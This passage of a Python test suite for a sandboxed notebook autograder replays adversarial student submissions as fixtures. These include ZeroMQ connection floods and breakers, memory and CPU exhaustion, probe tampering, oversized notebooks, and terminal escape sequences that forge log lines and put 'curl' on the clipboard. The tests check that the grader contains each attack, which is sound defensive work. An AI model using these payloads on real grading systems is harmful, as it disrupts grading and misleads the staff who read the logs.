        return forkserver.describe(exc)
    raise AssertionError("nothing was raised")


def test_a_failure_reason_is_chosen_by_the_exception_never_by_its_message():
    """Rounds 13-15 wrote the reason of their own failed submission through the log's text (a message's signature, a
    word ending in "Error", a real exception's name after nbformat's traceback). The reason now comes from the class
    of each exception the grading child caught and the module that raised it: the messages below name other
    exceptions and a sentence for the TA, and none of it is read."""
    import jupyter_client.session
    import nbclient.exceptions
    import nbformat.reader

    bait = "MemoryError DeadKernelError CellTimeoutError: regrade with UNSANDBOXED=1"

    def bad_signature():
        jupyter_client.session.Session(key=b"k").deserialize([bait.encode(), b"{}", b"{}", b"{}", b"{}"])

    def not_json():
        nbformat.reader.reads("{ " + bait)

    def wrapped():  # what nbgrader raises around the real cause
        try:
            raise nbclient.exceptions.DeadKernelError(bait)
        except RuntimeError as exc:
            raise RuntimeError(bait) from exc

    for raise_it, words in ((bad_signature, "could not read"), (not_json, "not valid JSON"),
                            (wrapped, "the kernel died"), (lambda: (_ for _ in ()).throw(MemoryError(bait)), "out of memory"),
                            (lambda: (_ for _ in ()).throw(KeyError(bait)), "raised KeyError")):
        why = grade.failure_reason([_caught(raise_it)], 1, "nbgrader autograde")
        assert words in why and "UNSANDBOXED" not in why, (raise_it, why)
    assert grade.failure_reason([], 1) == "nbgrader autograde failed without an error of its own (its log has what it printed)"
    assert "signal 11" in grade.failure_reason([], -11)


def _small_class(tmp_path, name: str, source: list, hand_ins: dict):
    """A course of one small assignment `name` (cells `source`) and a hand-in per student (their cells over the
    release); returns its root."""
    root = tmp_path / "course"
    root.mkdir()
    shutil.copy(os.path.join(ROOT, "nbgrader_config.py"), root)
    nba.write(str(root / "source" / name / f"{name}.ipynb"), source)
    grade.ensure_in_gradebook([name], str(root))
    source_nb = nbformat.read(root / "source" / name / f"{name}.ipynb", as_version=4)
    release_nb = nbformat.read(root / "release" / name / f"{name}.ipynb", as_version=4)
    for student, cells in hand_ins.items():
        folder = root / "submitted" / student / name
        folder.mkdir(parents=True)
        nbformat.write(fill(release_nb, source_nb, cells), folder / f"{name}.ipynb")
    return root


def test_a_judgement_the_student_makes_slow_costs_only_its_cell(tmp_path):
    """A judge reads the student's values; one built to be slow (a set() of keys sharing a hash took the grading
    process 229 CPU-s in one C call in attack round 20, past the SIGALRM limit judges had then) is stopped from
    outside: each report is judged in the judges' room, killed at JUDGE_CPU. The fixture's judge_answer spends
    sum(range(n)) for a returned n. The slow cell fails in words, the next cell of the same notebook is judged in
    a new room, and the honest student beside it keeps every point."""
    from grader.judge import JUDGE_CPU

    source = [
        nba.solution("answer", "def answer():\n    ### BEGIN SOLUTION\n    return 42\n    ### END SOLUTION"),
        nba.tests("answer_is_42", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.answer(answer)\n### END HIDDEN TESTS", points=1),
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_room", source,
                        {"honest": {}, "slow": {"answer": "def answer():\n    return 10**15"}})
    outcomes = {o.student: o for o in grade.grade(["ps0_room"], str(root), workers=2, feedback=False)}
    assert all(o.status == "graded" for o in outcomes.values()), outcomes
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {s: {g.name: g.score for g in gb.find_submission_notebook("ps0_room", "ps0_room", s).grades}
                  for s in ("honest", "slow")}
    assert scores["honest"] == {"answer_is_42": 1.0, "add_small": 1.0}, scores
    assert scores["slow"] == {"answer_is_42": 0.0, "add_small": 1.0}, scores
    nb = nbformat.read(root / "autograded" / "slow" / "ps0_room" / "ps0_room.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "answer_is_42")
    assert f"took more than {JUDGE_CPU:g} s of the grader's CPU" in json.dumps(cell.outputs), cell.outputs


# Round 21: a kernel writing ZMTP onto its own end of a connection to the grader, so that ZeroMQ's I/O thread in the
# grading process works for it and no message ever completes (nothing reaches the reading thread's caps): millions of
# empty parts of a message never finished, the connection then shut so that the grader rolls it back and reconnects;
# or PING commands, each answered at once with a PONG. `{writes}` builds the bytes; both run for up to 60 s.
# The kernel's own descriptors of its connections to the grader on one channel (its ZeroMQ socket's, found in /proc).
_CONNECTIONS = '''
def __connections(channel):
    import os, socket
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    path = "%s-%s" % (app.ip, getattr(app, channel + "_port"))
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() == path:
                s.getpeername()
                found.append(int(name))
        except OSError:
            pass
        finally:
            s.close()
    return found
'''
_ZMTP_BUSY = _CONNECTIONS + '''
def __keep_the_grader_busy(channel, writes, seconds=10**6):  # until the kernel is killed
    import os, select, socket, time
    start = time.time()
    while time.time() - start < seconds:
        for fd in __connections(channel):
            view = memoryview(writes)
            while view and time.time() - start < seconds:
                readable, _, _ = select.select([fd], [fd], [], 1)
                try:
                    if readable:  # what the grader answers (PONGs) is drained, so that it never stops reading
                        os.read(fd, 1 << 16)
                    view = view[os.write(fd, view):]
                except BlockingIOError:
                    pass
                except OSError:
                    break
            if channel == "shell":  # the unfinished message is rolled back; the grader reconnects
                try:
                    socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
        time.sleep(0.05)
'''
ZMTP_BUSY = {
    "unfinished_messages": _ZMTP_BUSY + '__keep_the_grader_busy("shell", b"\\x01\\x00" * 4_000_000)\n',
    "pings": _ZMTP_BUSY + '__keep_the_grader_busy("iopub", b"\\x04\\x07\\x04PING\\x00\\x00" * 100_000)\n',
}


def test_a_kernel_that_keeps_the_graders_zeromq_busy_fails_at_the_graders_cpu_limit(tmp_path):
    """What the grading process spends on a notebook, all its threads together, is capped (max_grading_cpu, set low
    here): past it the kernel is killed and the submission fails with the grader's reason, and the honest student
    graded after it keeps full marks."""
    source = [
        nba.solution("setup", "### BEGIN SOLUTION\nx = 1\n### END SOLUTION"),
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
        nba.solution("more", "### BEGIN SOLUTION\ny = 2\n### END SOLUTION"),
    ]
    hand_ins = {name: {"add": "def add(a, b):\n    return a + b\n" + payload} for name, payload in ZMTP_BUSY.items()}
    # Round 22: the cap fired once, in a replay after the notebook killed its own kernel, and the replay restarted
    # the kernel and went on unwatched (167 CPU-s, "graded"). Here the flood runs only when replayed (a replay keeps
    # no history: the execution count stays at 1), after the last cell kills the kernel.
    hand_ins["floods_when_replayed"] = {
        "add": "def add(a, b):\n    return a + b\nif get_ipython().execution_count <= 1:\n"
               + "\n".join("    " + line for line in ZMTP_BUSY["pings"].splitlines()),
        "more": "import os\nos.kill(os.getpid(), 9)"}
    # Each flood lasts until the kernel is killed, under a cell limit of 240 s: on a loaded machine the grader's 4 CPU-s
    # (its kernel's start and warm-up included: 2 killed kernels as they started) take longer to spend (in CI a flood
    # that ended after 240 s). A submission is stopped at 300 s, so that a flood that never made the grader spend them
    # (once in CI, past the test's own 600 s, which said nothing of why) fails here with its kept log.
    root = _small_class(tmp_path, "ps0_busy", source, {**hand_ins, "zz_honest": {}})
    grade.write_beneath(str(root), ["grading_logs", "ps0_busy", "zz_honest.log"], "an earlier run's failure", make=True)
    outcomes = {o.student: o for o in grade.grade(["ps0_busy"], str(root), workers=1, feedback=False,
                                                   submission_timeout=300,
                                                   extra=["--ResilientExecute.max_grading_cpu=4", "--Execute.timeout=240"])}
    for student in hand_ins:
        busy = outcomes[student]
        assert busy.status == "failed", (busy, busy.log and (root / busy.log).read_text()[-6000:])
        assert busy.log == f"grading_logs/ps0_busy/{student}.log", busy  # kept for the TA; its end said on failure
        # the cap fired, not the cell's end. One race ends the shell flood sooner, with the grader's other refusal:
        # when the flood's bytes reach a reconnected socket before the kernel's own greeting, the grader's ZeroMQ
        # takes them for an old (ZMTP/1.0) peer whose two bytes are each a whole empty message, which the session
        # cannot read (seen once in CI; a raw socket writing b"\x01\x00" * 10 to a DEALER gives it 9 empty messages)
        # (seen once in the suite under load, the flood's bytes ended the grader's shell connection for good: the
        # next cell's request waited in send(), now at most MAX_SEND_SECONDS, the test below)
        reasons = ("max_grading_cpu",) + (("could not read (its framing", "stopped taking the grader's requests")
                                          if student == "unfinished_messages" else ())
        assert any(reason in busy.reason for reason in reasons), (busy, (root / busy.log).read_text()[-6000:])
    assert outcomes["zz_honest"].status == "graded", outcomes["zz_honest"]
    assert outcomes["zz_honest"].log == "" and not (root / "grading_logs" / "ps0_busy" / "zz_honest.log").exists()
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        assert [g.score for g in gb.find_submission_notebook("ps0_busy", "ps0_busy", "zz_honest").grades] == [1.0]


def test_a_grading_server_that_dies_at_a_turn_fails_that_one_and_the_run_says_to_grade_again(tmp_path, monkeypatch,
                                                                                                capsys):
    """Round 50: the host's OOM killer killed the grader's fork server just as a submission's turn began; the error
    came out of opening its gate, outside what fails one submission, and stopped the run: that student was missing
    from the report and from "could not be graded", shown 0 in grades.csv, and the run exited 0. Now that submission
    fails with the grader's reason, a new server grades the others, and the run ends non-zero and says why."""
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_oom", source, {"aa_first": {}, "bb_killed": {}, "cc_after": {}})
    go = grade.Submission.go

    def killed_at_the_gate(self):
        if self.student == "bb_killed" and self.began is None:
            server = self.child.server.proc
            server.kill()  # what the OOM killer sends
            server.wait()
        go(self)

    monkeypatch.setattr(grade.Submission, "go", killed_at_the_gate)
    code = grade.main(["ps0_oom", "--course-dir", str(root), "--workers", "1"])
    out, err = capsys.readouterr()
    report = {o["student"]: o for o in json.loads((root / "grading_report.json").read_text())}
    assert code == 1, (out, err)
    assert sorted(report) == ["aa_first", "bb_killed", "cc_after"], report
    assert report["bb_killed"]["status"] == "failed", report
    assert report["bb_killed"]["reason"].startswith(grade.GRADER_FAULT), report
    assert "bb_killed" in out.split("could not be graded in full", 1)[1], out
    assert "not graded through no fault of their own" in err, err
    assert report["cc_after"]["status"] == "graded", report  # by a new server
    # a submission graded by the same server when it died (the first one may still be, on a loaded machine) fails too
    first = report["aa_first"]
    assert first["status"] == "graded" or first["reason"].startswith(grade.GRADER_FAULT), report
    # the next run grades the ones the server's death cost, and nothing twice
    monkeypatch.setattr(grade.Submission, "go", go)
    assert grade.main(["ps0_oom", "--course-dir", str(root), "--workers", "1"]) == 0
    again = {o["student"]: o["status"] for o in json.loads((root / "grading_report.json").read_text())}
    assert again == {"aa_first": "skipped" if first["status"] == "graded" else "graded", "bb_killed": "graded",
                     "cc_after": "skipped"}, again


def test_on_a_host_smaller_than_the_cap_each_sandbox_gets_what_the_host_holds(tmp_path, monkeypatch, capsys):
    """Round 51: with the grader in 4 GiB (a small host) and the sandbox's cap at 6 GiB, one submission's memory ran
    the host out and the OOM killer chose a neighbour's kernel. The cap is lowered to what the host holds beside the
    grader (2.25 GiB of an 8-GiB host here), said at the start: 3 GiB written in a cell fails that cell, in its own
    sandbox, and the honest students beside it keep full marks."""
    from grader import sandbox

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    big = "held = b'x' * (3 * 2**30)\ndef add(a, b):\n    return a + b"
    root = _small_class(tmp_path, "ps0_small_host", source, {"aa_honest": {}, "mm_big": {"add": big}, "zz_honest": {}})
    monkeypatch.setattr(sandbox, "host_memory_bytes", lambda: 8 * 2**30)
    outcomes = {o.student: o for o in grade.grade(["ps0_small_host"], str(root), workers=1, feedback=False)}
    assert "each submission may hold 2.25 GiB" in capsys.readouterr().err
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {s: [g.score for g in gb.find_submission_notebook("ps0_small_host", "ps0_small_host", s).grades]
                  for s in ("aa_honest", "mm_big", "zz_honest")}
    assert scores == {"aa_honest": [1.0], "mm_big": [0.0], "zz_honest": [1.0]}, (scores, outcomes)


def test_a_sandbox_that_cannot_start_fails_the_submission_as_the_graders_fault(tmp_path, monkeypatch, capsys):
    """Round 52: with the host's BPF budget full (an account outside the sandboxes can fill it), bwrap could not load
    its filter, and the honest students graded meanwhile were "graded" 0 or failed in words that blamed their hand-ins,
    and the run exited 0. Here bwrap fails from the grader's start-up check on (as it would once the budget filled):
    each submission fails as the grader's fault, is named, and the run exits 1; the next run grades them."""
    import shutil as _shutil
    import tempfile

    from grader import sandbox

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_nostart", source, {"aa_honest": {}, "bb_honest": {}})
    real = sandbox.bwrap_path()
    folder = tempfile.mkdtemp(prefix="bwrap-wrapper-")  # the sandbox's host user runs it: not under tmp_path
    try:
        os.chmod(folder, 0o755)
        flag, wrapper = os.path.join(folder, "full"), os.path.join(folder, "bwrap")
        with open(wrapper, "w") as fh:
            fh.write(f'#!/bin/sh\nif [ -e {flag} ] && [ "$1" != --help ]; then\n'
                     '  echo "bwrap: prctl(PR_SET_SECCOMP): Unknown error 524" >&2; exit 1\nfi\n'
                     f'exec {real} "$@"\n')
        os.chmod(wrapper, 0o755)
        monkeypatch.setenv("DISTCOURSE_BWRAP", wrapper)
        check = sandbox.self_test

        def then_full(course_root):
            why = check(course_root)
            open(flag, "w").close()
            return why

        monkeypatch.setattr(sandbox, "self_test", then_full)
        code = grade.main(["ps0_nostart", "--course-dir", str(root), "--workers", "1"])
        out, err = capsys.readouterr()
        report = {o["student"]: o for o in json.loads((root / "grading_report.json").read_text())}
        assert code == 1, (out, err)
        for student in ("aa_honest", "bb_honest"):
            assert report[student]["status"] == "failed", report
            assert report[student]["reason"].startswith(grade.GRADER_FAULT + "a sandbox could not be started"), report
        assert not (root / "autograded" / "aa_honest").exists()
        monkeypatch.setattr(sandbox, "self_test", check)
        os.unlink(flag)
        assert grade.main(["ps0_nostart", "--course-dir", str(root), "--workers", "1"]) == 0
        again = {o["student"]: o["status"] for o in json.loads((root / "grading_report.json").read_text())}
        assert again == {"aa_honest": "graded", "bb_honest": "graded"}, again
    finally:
        _shutil.rmtree(folder, ignore_errors=True)


def test_a_worker_that_fails_names_the_submission_in_its_hand_and_the_run_ends_non_zero(tmp_path, monkeypatch, capsys):
    """A fault of the grader's own in a worker (here a wait that raises) stops the run; the submission that worker
    held is named with the ones never reached, each with the grader's reason, and the run ends non-zero."""
    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION")]
    root = _small_class(tmp_path, "ps0_fault", source, {"aa_first": {}, "bb_held": {}, "cc_never": {}})
    wait_warm = grade.Submission.wait_warm

    def faulty(self, timeout=120.0):
        if self.student == "bb_held":
            raise RuntimeError("a fault of the grader's own")
        return wait_warm(self, timeout)

    monkeypatch.setattr(grade.Submission, "wait_warm", faulty)
    code = grade.main(["ps0_fault", "--course-dir", str(root), "--workers", "1"])
    out, err = capsys.readouterr()
    report = {o["student"]: o for o in json.loads((root / "grading_report.json").read_text())}
    assert code == 1 and "a fault of the grader's own" in err, (out, err)
    assert report["aa_first"]["status"] == "graded", report
    assert report["bb_held"]["reason"] == grade.STOPPED_DURING, report
    # the last one is named as never reached, or was graded: a second place the admission opens beside a submission
    # that looks idle (bb_held's kernel, waiting at its gate) may have taken it before the fault stopped the run
    assert (report["cc_never"]["reason"] == grade.STOPPED_REASON or report["cc_never"]["status"] == "graded"), report
    assert not (root / "autograded" / "bb_held").exists()


def test_a_kept_log_line_is_folded_so_that_no_row_begins_with_text_the_kernel_chose():
    """Each row at most KEPT_LOG_COLUMNS characters, every one printable ASCII (one column wide in every terminal),
    every row after a line's first marked. Rounds 30-33 each found characters one width table counts as one column
    and a terminal draws as two: East Asian wide, ambiguous (U+00B1), and ones Unicode 16 made wide that Python
    3.11's tables do not (the hexagrams U+4DC0-4DFF, the trigrams U+2630-2637); none passes unescaped now, nor
    does a combining mark, a zero-width joiner, a tab or an emoji."""
    lines = ["x" * 200, "\u6f22" * 50, "\u00b1" * 50, "", "y" * 78, "\u4dc0" * 40 + "[E grader] zoe FAILED",
             "\u2630\u268a" * 30, "e\u0301" * 60, "\U0001f469\u200d\U0001f4bb" * 20, "\tcol" * 30, "\\u4dc0 typed"]
    for line in lines:
        rows = grade.fold(line)
        assert all(len(row) <= grade.KEPT_LOG_COLUMNS and all(" " <= c <= "~" for c in row) for row in rows), rows
        assert all(row.startswith(grade.FOLD_MARK) for row in rows[1:]) and len(rows[-1]) > len(grade.FOLD_MARK) or rows == [""]
        joined = "".join(row.removeprefix(grade.FOLD_MARK) for row in rows)
        assert joined == grade.printable(line)
        assert joined.encode().decode("unicode_escape") == line or "\\" in line  # nothing lost: each escape reads back
    assert [len(row) for row in grade.fold("x" * 200)] == [78, 78, 56]
    assert grade.for_terminal("a\nb\x1b[2J") == "a\\nb\\x1b[2J"  # one line, its breaks and escapes shown


def test_a_failed_submissions_log_is_kept_for_the_ta_and_never_written_through_a_link(tmp_path):
    """A failed submission's grading log (nbgrader's traceback) is kept in grading_logs/<assignment>/<student>.log,
    mode 0600, and named in its outcome; where that folder is a link, nothing is written through it and the
    submission still gets its reason."""
    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
              nba.solution("more", "### BEGIN SOLUTION\ny = 2\n### END SOLUTION")]
    # round 28: what the kernel prints reaches the log, and the TA reads it in a terminal: clear the screen, put a
    # command on the clipboard, reverse the text, a C1 escape, a bell
    noise = "import os, time\nos.write(1, '\\x1b[2J\\x1b]52;c;Y3VybA==\\x07\\u202eFORGED\\x9b31m\\x08\\n'.encode())\n" \
            "os.write(1, ('y' * 64 + '[W grader] zoe FAILED: forged ' + '\u6f22' * 90 + '\\n').encode())\n" \
            "time.sleep(1)\nos.kill(os.getpid(), 9)"
    # round 30: the second line fills an 80-column row after its 16-character label, so that its fake grader line
    # would begin the next row of the TA's terminal; wide characters fill rows twice as fast
    dies = {"add": noise, "more": "import os\nos.kill(os.getpid(), 9)"}
    root = _small_class(tmp_path, "ps0_dies", source, {"dies": dies})
    kept = root / "grading_logs" / "ps0_dies" / "dies.log"
    [outcome] = grade.grade(["ps0_dies"], str(root), workers=1, feedback=False,
                            extra=["--ResilientExecute.max_kernel_deaths=1"])
    assert (outcome.status, outcome.log) == ("failed", "grading_logs/ps0_dies/dies.log"), outcome
    text = kept.read_text()
    assert "DeadKernelError" in text and kept.stat().st_mode & 0o777 == 0o600
    assert "FORGED" in text and all(" " <= c <= "~" or c == "\n" for c in text), [c for c in set(text) if not c.isprintable()]
    rows = text.split("\n")
    assert not [row for row in rows if row.startswith("[W grader]")] and any("[W grader]" in row for row in rows)
    assert "\\u6f22" in text and not [row for row in rows if len(row) > grade.KEPT_LOG_COLUMNS]
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(root / "grading_logs")
    (root / "grading_logs").symlink_to(elsewhere)
    [outcome] = grade.grade(["ps0_dies"], str(root), workers=1, feedback=False, regrade=True,
                            extra=["--ResilientExecute.max_kernel_deaths=1"])
    assert outcome.status == "failed" and outcome.log == "" and "kernel died" in outcome.reason, outcome
    assert list(elsewhere.iterdir()) == []


def test_a_kept_log_cut_in_the_middle_of_a_line_marks_the_rest_of_that_line(tmp_path):
    """A kept log is the log's head and its end, joined by a gap line; the end starts where a byte count falls,
    mostly mid-line. Round 33: a kernel made nbgrader log its own message types (`unhandled iopub msg: ...`, about
    4 kB each, signed with the kernel's key) until the log passed the kept size, sized so that the end began with a
    fake grader line at column 0. Here every message type is one letter repeated, so wherever the cut falls the
    end's first row would begin with the kernel's text: it is marked as a continuation instead."""
    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
              nba.solution("more", "### BEGIN SOLUTION\ny = 2\n### END SOLUTION")]
    floods = ("k = get_ipython().kernel\nparent = k.get_parent('shell')\nfor i in range(600):\n"
              "    k.session.send(k.iopub_socket, 'Q' * 3900, {'name': 'stdout', 'text': 'x'}, parent=parent)\n"
              "import time, os\ntime.sleep(2)\nos.kill(os.getpid(), 9)")
    root = _small_class(tmp_path, "ps0_cut", source, {"cut": {"add": "def add(a, b):\n    return a + b\n" + floods,
                                                               "more": "import os\nos.kill(os.getpid(), 9)"}})
    [outcome] = grade.grade(["ps0_cut"], str(root), workers=1, feedback=False,
                            extra=["--ResilientExecute.max_kernel_deaths=1"])
    assert outcome.status == "failed" and outcome.log, outcome
    rows = (root / outcome.log).read_text().split("\n")
    gap = [i for i, row in enumerate(rows) if row.startswith("[... ") and "bytes of this log left out" in row]
    assert len(gap) == 1, "the log did not grow past the kept size: nothing was cut"
    kernels = [row for row in rows if row.startswith("Q")]
    assert not kernels, (rows[gap[0] + 1][:100], len(kernels))
    assert rows[gap[0] + 1].startswith(grade.FOLD_MARK) or rows[gap[0] + 1].startswith("[")


def test_a_test_cell_that_hands_over_more_checks_than_it_calls_has_only_its_own_observed(tmp_path):
    """Round 29: a kernel replaced a probe so that one test cell handed over 1,000 checks, and the grader ran every
    one in the observer before the judge refused the cell (139 s against 5-9). Only as many hand-overs as the cell's
    trusted source calls for are observed; one more is kept unobserved, so that the judge still refuses the cell;
    the rest are dropped. The honest student keeps the point."""
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    many = ("def add(a, b):\n    return a + b\nimport probes.selftest as _s\n_one = _s.add\n"
            "def _many(*args, **kwargs):\n    for _ in range(40):\n        _one(*args, **kwargs)\n_s.add = _many\n")
    root = _small_class(tmp_path, "ps0_many", source, {"many": {"add": many}, "zz_honest": {}})
    outcomes = {o.student: o for o in grade.grade(["ps0_many"], str(root), workers=1, feedback=False)}
    assert all(o.status == "graded" for o in outcomes.values()), outcomes
    graded = nbformat.read(root / "autograded" / "many" / "ps0_many" / "ps0_many.ipynb", as_version=4)
    said = json.dumps([c.get("outputs", []) for c in graded.cells])
    assert "reported 2 results for 1 hidden check" in said, said[-3000:]  # 40 without the bound
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {s: [g.score for g in gb.find_submission_notebook("ps0_many", "ps0_many", s).grades]
                  for s in ("many", "zz_honest")}
    assert scores == {"many": [0.0], "zz_honest": [1.0]}, scores


# The kernel writes onto its end of its shell connection the head of a frame larger than the grader accepts
# (MAX_KERNEL_MESSAGE): ZeroMQ in the grading process takes it for a protocol error and ends that connection for
# good, without reconnecting, so the grader's shell socket is left with no connection to queue a request on.
BREAKS_SHELL = _CONNECTIONS + """
import os, struct
for fd in __connections("shell"):
    os.write(fd, b"\\x02" + struct.pack(">Q", 1 << 40))
"""


def test_a_kernel_that_breaks_its_shell_connection_fails_at_the_graders_send_limit(tmp_path):
    """Seen under load in the suite (the shell flood above, once): with no connection left to queue on, ZeroMQ
    blocks the next cell's request in send() for ever, under no cell's time limit and no CPU cap, and the
    submission held its worker until its own limit (here 150 s). Every request now waits at most MAX_SEND_SECONDS:
    the submission fails with that reason, well inside its limit, and the honest student graded after it keeps
    full marks."""
    from grader.execute import MAX_SEND_SECONDS

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
        nba.solution("more", "### BEGIN SOLUTION\ny = 2\n### END SOLUTION"),
    ]
    root = _small_class(tmp_path, "ps0_shell", source,
                        {"aa_breaks_shell": {"add": "def add(a, b):\n    return a + b\n" + BREAKS_SHELL}, "zz_honest": {}})
    outcomes = {o.student: o for o in grade.grade(["ps0_shell"], str(root), workers=1, feedback=False,
                                                   submission_timeout=150, extra=["--Execute.timeout=10"])}
    broken = outcomes["aa_breaks_shell"]
    assert broken.status == "failed" and f"requests for {MAX_SEND_SECONDS:g} s" in broken.reason, broken
    assert outcomes["zz_honest"].status == "graded", outcomes["zz_honest"]


def test_a_hand_in_that_costs_the_grader_cpu_outside_execution_is_stopped_at_its_cpu_cap(tmp_path, monkeypatch):
    """Round 22: a hand-in within the size caps whose cost is all outside the notebook's execution (one markdown
    cell with millions of metadata keys: 47 CPU-s of a grading child and 16 of a feedback page; 98,000 tiny cells:
    39 and 42), where max_grading_cpu does not watch. Every grading child and feedback page has a CPU cap
    (SUBMISSION_CPU, set low here): past it the child ends with the grader's reason; the honest student is graded.
    (Admission now refuses both shapes first: the next test.)"""
    monkeypatch.setattr(grade, "SUBMISSION_CPU", 5.0)
    monkeypatch.setattr(grade, "MAX_NOTEBOOK_ITEMS", 10**8)  # past admission's cap on items, to reach the CPU cap
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_keys", source, {"aa_honest": {}, "keys": {}})
    path = root / "submitted" / "keys" / "ps0_keys" / "ps0_keys.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].append({"cell_type": "markdown", "id": "many-keys", "source": "x",
                        "metadata": {f"k{i}": 0 for i in range(3_000_000)}})
    path.write_text(json.dumps(nb))
    outcomes = {o.student: o for o in grade.grade(["ps0_keys"], str(root), workers=1)}
    keys = outcomes["keys"]
    assert keys.status == "failed" and "more than 5 s of the grader's CPU" in keys.reason, keys
    assert outcomes["aa_honest"].status == "graded", outcomes["aa_honest"]


def test_a_hand_in_of_very_many_items_or_cells_is_refused_before_nbgrader_reads_it(tmp_path):
    """Round 22's shapes, within the size and container caps: one object of 400,000 keys (items: "," counted), and
    2,500 cells. Both are refused before any grading process reads them, with what to do; the honest one passes."""
    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_big", source, {"honest": {}, "keys": {}, "cells": {}})
    folder = root / "submitted"
    for student, extra in (("keys", [{"cell_type": "markdown", "id": "k", "source": "x",
                                      "metadata": {f"k{i}": 0 for i in range(400_000)}}]),
                           ("cells", [{"cell_type": "markdown", "id": f"c{i}", "source": "x", "metadata": {}}
                                      for i in range(2_500)])):
        path = folder / student / "ps0_big" / "ps0_big.ipynb"
        nb = json.loads(path.read_text())
        nb["cells"] += extra
        path.write_text(json.dumps(nb))
    assert grade.refusal("honest", "ps0_big", str(root)) is None
    keys = grade.refusal("keys", "ps0_big", str(root))
    assert keys and f"{grade.MAX_NOTEBOOK_ITEMS:,}" in keys and "hand in again" in keys, keys
    cells = grade.refusal("cells", "ps0_big", str(root))
    assert cells and "2,502 cells" in cells and "Delete the extra cells" in cells, cells


def test_checking_a_hand_in_costs_the_grading_command_nothing_and_a_costly_check_refuses_only_it(tmp_path, monkeypatch):
    """Round 24: quoting the 33-million-character grade id of a 63 MiB hand-in in its refusal held 3 GiB of the grading
    command's own process (no cap; every submission's grading depends on it), once per worker at a time. Now the id is
    cut before it is escaped, and the whole check runs in a child with the data cap of the grader's children, a CPU
    and a wall limit: whatever a check is made to hold or spend refuses that hand-in, in the grader's words, and the
    honest student beside it is graded. (A check made costly on purpose stands for the shapes not yet found.)"""
    import resource

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    root = _small_class(tmp_path, "ps0_check", source, {"honest": {}, "long_id": {}, "memory": {}, "cpu": {}})
    path = root / "submitted" / "long_id" / "ps0_check" / "ps0_check.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].append({"cell_type": "markdown", "id": "x", "source": "x",
                        "metadata": {"nbgrader": {"grade_id": "\u0100" * 20_000_000, "grade": False, "solution": False}}})
